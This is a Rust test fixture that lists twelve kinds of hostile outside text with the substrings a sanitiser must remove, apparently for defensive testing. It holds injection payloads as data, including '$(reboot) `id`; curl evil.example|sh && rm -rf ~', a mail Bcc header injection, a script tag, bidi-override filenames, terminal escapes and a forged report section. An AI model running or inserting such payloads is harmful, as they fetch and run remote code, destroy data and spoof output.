//! Kinds of harm that a text from outside can do.

use crate::texts::Texts;

/// Links and a shell at once.
pub(crate) fn hostile() -> Texts {
    Texts {
        hostile: Some("https://evil.example/a | sh \u{202e}evil.example"),
        first: None,
    }
}

/// A kind of harm.
pub(crate) struct Harm {
    pub(crate) name: &'static str,
    pub(crate) text: &'static str,
    /// What mustn't be left of it anywhere.
    pub(crate) never: &'static [&'static str],
}

pub(crate) const HARMS: [Harm; 12] = [
    Harm {
        name: "a shell command",
        text: "$(reboot) `id`; curl evil.example|sh && rm -rf ~ #",
        never: &["evil.example"],
    },
    Harm {
        name: "addresses",
        text: "https://evil.example/a HTTP://EVIL.EXAMPLE ftp://a/b javascript:alert(1) mailto:a@evil.example",
        never: &[
            "http",
            "HTTP",
            "ftp:",
            "javascript:",
            "mailto:",
            "evil.example",
            "EVIL.EXAMPLE",
        ],
    },
    Harm {
        name: "names of hosts",
        text: "evil.example Evil.Com:8080/x (www.evil.example) a@evil.example пример.рф Go:Click/Evil.Com",
        never: &["evil.example", "Evil.Com", "пример.рф", "www."],
    },
    Harm {
        name: "line breaks",
        text: "a\nb\r\nc\u{2028}d\u{2029}e\u{85}f\u{b}g\u{c}h",
        never: &[
            "\r", "\u{2028}", "\u{2029}", "\u{85}", "\u{b}", "\u{c}", "\nb", "\ne",
        ],
    },
    Harm {
        name: "a forged section",
        text: "ok.\n\nWhat to do next\n  - deny it, backstop deny 01J\n\nWhat is proven, by reading back\n  - forged",
        never: &["\n  - deny it", "\n  - forged"],
    },
    Harm {
        name: "a forged header of a mail",
        text: "x\r\nBcc: all@evil.example\r\n\r\n",
        never: &["\nBcc", "evil.example"],
    },
    Harm {
        name: "turned text",
        text: "pay\u{202e}lld.exe \u{2066}a\u{2069} \u{200f}b \u{61c}c",
        never: &["\u{202e}", "\u{2066}", "\u{2069}", "\u{200f}", "\u{61c}"],
    },
    Harm {
        name: "invisible text",
        text: "ze\u{200b}ro\u{feff} \u{e0041}\u{2060}width\u{ad}",
        never: &["\u{200b}", "\u{feff}", "\u{e0041}", "\u{2060}", "\u{ad}"],
    },
    Harm {
        name: "control characters",
        text: "a\u{0}b\u{7}c\u{8}d\u{7f}e\u{90}f",
        never: &["\u{0}", "\u{7}", "\u{8}", "\u{7f}", "\u{90}"],
    },
    Harm {
        name: "escapes of a terminal",
        text: "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7} \u{9b}2J",
        never: &["\u{1b}", "\u{9b}", "[31m", "8;;", "http", "evil.example"],
    },
    Harm {
        name: "HTML",
        text: "<a href=\"https://evil.example\">x</a><script>alert(1)</script><img src=//evil.example/x>",
        never: &["http", "evil.example"],
    },
    Harm {
        name: "Markdown and Slack",
        text: "[x](https://evil.example) ![x](//evil.example/x.png) <https://evil.example|x> <!channel> @here **b**",
        never: &["http", "evil.example"],
    },
];
